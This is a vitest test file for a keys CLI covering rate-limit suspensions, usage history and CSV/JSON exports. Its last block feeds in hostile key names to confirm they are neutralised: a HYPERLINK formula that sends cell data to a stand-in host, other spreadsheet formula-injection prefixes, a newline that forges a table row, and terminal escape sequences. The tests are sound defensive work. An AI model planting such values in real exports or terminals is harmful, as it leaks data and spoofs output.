import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { keysCommandOn } from '#test/support/keys-command-runner.ts'
import {
  apiClient,
  type InProcessServer,
  startInProcessServer,
} from '#test/support/local-server.ts'
import { whileTheClockRuns } from '#test/support/moving-clock.ts'

/**
 * Support's side of the keys CLI on the local server: a customer's key driven over its minute
 * limit and into a suspension, as `keys list` and `keys show` report it, `keys enable` admits it
 * and `keys lift` ends it; then usage on several days, exported for a month as CSV and JSON.
 * Only `Date` is faked, so the gateway, the functions' limiter and the CLI share one clock that
 * starts 5 s into a UTC minute, while sockets and timers stay real.
 */
const START = Date.UTC(2026, 10, 3, 12, 0, 5)

let server: InProcessServer

beforeAll(async () => {
  vi.useFakeTimers({ toFake: ['Date'] })
  vi.setSystemTime(START)
  server = await startInProcessServer(
    { PETSTORE_API_KEYS: '' },
    // Sends from one address only with valid keys; the limit must not matter here either way.
    { wrongKeysBeforeDelay: 100_000 },
  )
})
afterAll(async () => {
  await server?.stop()
  vi.useRealTimers()
})

/** The keys CLI against the server (its secret, `--url` its origin). */
const keys = (...args: string[]) => keysCommandOn(server)(...args)

const ok = async (...args: string[]) => {
  const result = await keys(...args)
  expect(result.code, result.stderr).toBe(0)
  return result
}

const createKey = async (plan: string, name: string) => {
  const { stdout } = await ok('create', '--plan', plan, `--name=${name}`, '--json')
  return JSON.parse(stdout) as { id: string; value: string }
}

/** `n` requests of a key, 400 ms apart (the usage-plan backstop's bucket refills meanwhile). */
const send = async (value: string, n: number) => {
  const client = apiClient(server.baseUrl, value)
  const answers = []
  for (let i = 0; i < n; i += 1) {
    answers.push(await client.get('/pets?limit=1'))
    vi.setSystemTime(Date.now() + 400)
  }
  return answers
}

const statusCounts = (answers: { status: number; json: unknown }[]) => {
  const counts: Record<string, number> = {}
  for (const answer of answers) {
    const code = answer.status === 200 ? '200' : (answer.json as { code: string }).code
    counts[code] = (counts[code] ?? 0) + 1
  }
  return counts
}

let customer: { id: string; value: string }
let other: { id: string; value: string }

describe('a customer over its limit, as support sees and handles it', () => {
  it("counts admitted requests in TODAY, as the key's own headers do, refused ones not", async () => {
    customer = await createKey('free', 'acme-app')
    vi.setSystemTime(Date.UTC(2026, 10, 3, 12, 1, 5))
    const answers = await send(customer.value, 61)
    expect(statusCounts(answers)).toEqual({ '200': 60, rate_limited: 1 })
    const last = answers.at(-1)
    const used =
      Number(last?.headers.get('x-ratelimit-limit')) -
      Number(last?.headers.get('x-ratelimit-remaining'))
    expect(used).toBe(60)

    const listed = await ok('list')
    const row = listed.stdout.split('\n').find((line) => line.startsWith(customer.id)) ?? ''
    expect(row.split(/\s{2,}/)[5]).toBe(String(used))
    const asJson = JSON.parse((await ok('list', '--json')).stdout) as {
      id: string
      usedToday: number
    }[]
    expect(asJson.find((key) => key.id === customer.id)?.usedToday).toBe(used)
  })

  it('shows the suspension, says so on enable, lifts it, and the key is answered by its plan again', async () => {
    // 60 more refusals in the same minute: the 61st refused request suspends the key.
    expect(statusCounts(await send(customer.value, 60))).toEqual({
      rate_limited: 59,
      key_suspended: 1,
    })
    const shown = JSON.parse((await ok('show', customer.id, '--json')).stdout)
    expect(shown).toMatchObject({
      id: customer.id,
      name: 'acme-app',
      stage: 'local',
      plan: 'free',
      limits: { perMinute: 60, perDay: 1_000 },
      enabled: true,
      works: false,
      usage: { minute: 60, day: 60, dayId: '2026-11-03' },
      lastSeenMinute: '2026-11-03T12:01:00Z',
    })
    expect(Date.parse(shown.suspendedUntil)).toBeGreaterThan(Date.now() + 14 * 60_000)
    const human = await ok('show', 'acme-app')
    expect(human.stdout).toMatch(/state\s+suspended until .*429 key_suspended .*lift/)
    expect(human.stdout).toMatch(/today\s+60 of 1000 used on 2026-11-03/)

    const enabled = await ok('enable', customer.id)
    expect(enabled.stderr).toMatch(/is suspended until .*lift/)
    expect(enabled.stderr).not.toContain('it works now')
    const moved = await ok('move', customer.id, '--plan', 'pro', '--json')
    expect(moved.stderr).toMatch(/its new limits apply, but it is suspended until .*lift/)
    expect(JSON.parse(moved.stdout)).toMatchObject({ from: 'free', to: 'pro', suspended: true })
    await ok('move', customer.id, '--plan', 'free')

    const listed = await ok('list')
    const row = listed.stdout.split('\n').find((line) => line.startsWith(customer.id)) ?? ''
    expect(row).toMatch(/suspended until 2026-11-03T12:1\d:\d\dZ \(429\)/)
    const listedJson = JSON.parse((await ok('list', '--json')).stdout) as {
      id: string
      suspendedUntil: string | null
    }[]
    expect(listedJson.find((key) => key.id === customer.id)?.suspendedUntil).toBe(
      shown.suspendedUntil,
    )

    // A request in the next minute, still suspended: the server now trusts the suspension it
    // read for SUSPENSION_RECHECK_MS without reading the table again.
    vi.setSystemTime(Date.UTC(2026, 10, 3, 12, 2, 5))
    expect(statusCounts(await send(customer.value, 1))).toEqual({ key_suspended: 1 })
    const lifted = await whileTheClockRuns(ok('lift', customer.id))
    expect(lifted.stderr).toMatch(
      /lifted the suspension of key \w+ .*: it is answered by its plan limits now/,
    )
    // In force when the command returns: the very next request is answered by the plan.
    expect(statusCounts(await send(customer.value, 1))).toEqual({ '200': 1 })
    expect(JSON.parse((await ok('show', customer.id, '--json')).stdout)).toMatchObject({
      works: true,
      suspendedUntil: null,
    })
    expect((await ok('lift', customer.id)).stderr).toMatch(/is not suspended/)
  })
})

describe('usage history and the month export', () => {
  it("gives one key's days and every key's days of a month, as CSV and JSON, row by row", async () => {
    other = await createKey('pro', 'globex, "west"')
    await send(other.value, 3)
    vi.setSystemTime(Date.UTC(2026, 10, 5, 9, 30, 0))
    await send(customer.value, 2)
    await send(other.value, 4)
    vi.setSystemTime(Date.UTC(2026, 11, 1, 0, 0, 30))
    await send(customer.value, 5)

    const history = JSON.parse(
      (await ok('usage', customer.id, '--from', '2026-11-02', '--to', '2026-11-05', '--json'))
        .stdout,
    )
    expect(
      history.map((row: { day: string; requests: number }) => [row.day, row.requests]),
    ).toEqual([
      // None from 2026-11-02: the key was made on 2026-11-03.
      ['2026-11-03', 61],
      ['2026-11-04', 0],
      ['2026-11-05', 2],
    ])
    const before = await ok('usage', customer.id, '--from', '2026-10-01', '--to', '2026-11-02')
    expect(before.stdout.trim()).toBe('KEY  NAME  PLAN  DAY  REQUESTS')
    expect(before.stderr).toContain(`key ${customer.id} was made on 2026-11-03, after 2026-11-02`)

    const [first, second] = [customer, other].sort((a, b) => a.id.localeCompare(b.id)) as [
      typeof customer,
      typeof other,
    ]
    const expected = [
      ...(first === customer
        ? [
            [customer.id, 'acme-app', 'free', '2026-11-03', 61],
            [customer.id, 'acme-app', 'free', '2026-11-05', 2],
          ]
        : [
            [other.id, 'globex, "west"', 'pro', '2026-11-03', 3],
            [other.id, 'globex, "west"', 'pro', '2026-11-05', 4],
          ]),
      ...(second === customer
        ? [
            [customer.id, 'acme-app', 'free', '2026-11-03', 61],
            [customer.id, 'acme-app', 'free', '2026-11-05', 2],
          ]
        : [
            [other.id, 'globex, "west"', 'pro', '2026-11-03', 3],
            [other.id, 'globex, "west"', 'pro', '2026-11-05', 4],
          ]),
    ]
    const csv = await ok('usage', '--month', '2026-11', '--csv')
    expect(csv.stdout.split('\r\n')).toEqual([
      'key_id,key_name,plan,day,requests',
      ...expected.map((row) =>
        row.map((cell) => (cell === 'globex, "west"' ? '"globex, ""west"""' : cell)).join(','),
      ),
      '',
    ])
    expect(csv.stderr).toContain('4 row(s)')
    const json = JSON.parse((await ok('usage', '--month', '2026-11', '--json')).stdout)
    expect(json).toEqual(
      expected.map(([keyId, keyName, plan, day, requests]) => ({
        keyId,
        keyName,
        plan,
        day,
        requests,
      })),
    )
    // December's request is December's.
    expect(JSON.parse((await ok('usage', '--month', '2026-12', '--json')).stdout)).toEqual([
      { keyId: customer.id, keyName: 'acme-app', plan: 'free', day: '2026-12-01', requests: 5 },
    ])
  })

  it('answers a malformed month or range with a usage error (exit 2)', async () => {
    for (const args of [
      ['usage', '--month', '2026-13'],
      ['usage', customer.id, '--from', '2026-11-05', '--to', '2026-11-01'],
      ['usage', customer.id, '--from', '2026-02-30'],
      ['usage'],
      ['show'],
    ]) {
      const result = await keys(...args)
      expect(result.code, args.join(' ')).toBe(2)
      expect(result.stdout).toBe('')
    }
    expect((await keys('show', 'nosuchkey')).code).toBe(1)
  })
})

describe("a key's name as the customer typed it", () => {
  const NAMES = {
    formula: '=HYPERLINK("http://x.example/?q="&A1,"open")',
    plus: '+1+2',
    minus: '-2+3',
    at: '@SUM(A1:A2)',
    tab: '\tindented',
    forged: 'fine\nzzzzzzzzzz  forged  free  yes',
    paint: 'red\u001b[31m\u001b]0;pwned\u0007',
  }

  it('is exported to CSV so no spreadsheet runs it as a formula', async () => {
    const made: Record<string, { id: string; value: string }> = {}
    for (const [label, name] of Object.entries(NAMES)) {
      made[label] = await createKey('free', name)
      await send((made[label] as { value: string }).value, 1)
    }
    const month = new Date(Date.now()).toISOString().slice(0, 7)
    const csv = (await ok('usage', '--month', month, '--csv')).stdout
    const cells = (label: keyof typeof NAMES) =>
      csv.split('\r\n').find((line) => line.startsWith((made[label] as { id: string }).id))
    // OWASP: a leading ' makes the cell text; then it is quoted (RFC 4180, quotes doubled).
    expect(cells('formula')).toContain(`,"'=HYPERLINK(""http://x.example/?q=""&A1,""open"")",`)
    expect(cells('plus')).toContain(`,"'+1+2",`)
    expect(cells('minus')).toContain(`,"'-2+3",`)
    expect(cells('at')).toContain(`,"'@SUM(A1:A2)",`)
    expect(cells('tab')).toContain(`,"'\tindented",`)
    // The JSON keeps the name exactly.
    const json = JSON.parse((await ok('usage', '--month', month, '--json')).stdout) as {
      keyId: string
      keyName: string
    }[]
    expect(json.find((row) => row.keyId === made.formula?.id)?.keyName).toBe(NAMES.formula)

    // list and show write newlines and escape sequences escaped: no forged row, no repaint.
    const listed = (await ok('list')).stdout
    expect(listed).not.toContain('\u001b')
    expect(listed).not.toMatch(/^zzzzzzzzzz/m)
    expect(listed).toContain('fine\\nzzzzzzzzzz  forged  free  yes')
    expect(listed).toContain('red\\x1b[31m\\x1b]0;pwned\\x07')
    const shown = (await ok('show', made.paint?.id as string)).stdout
    expect(shown).not.toContain('\u001b')
    expect(shown).toContain('"red\\x1b[31m\\x1b]0;pwned\\x07"')
    const table = (await ok('usage', made.forged?.id as string)).stdout
    expect(table.split('\n').filter((line) => line.startsWith('zzzzzzzzzz'))).toEqual([])
  })
})
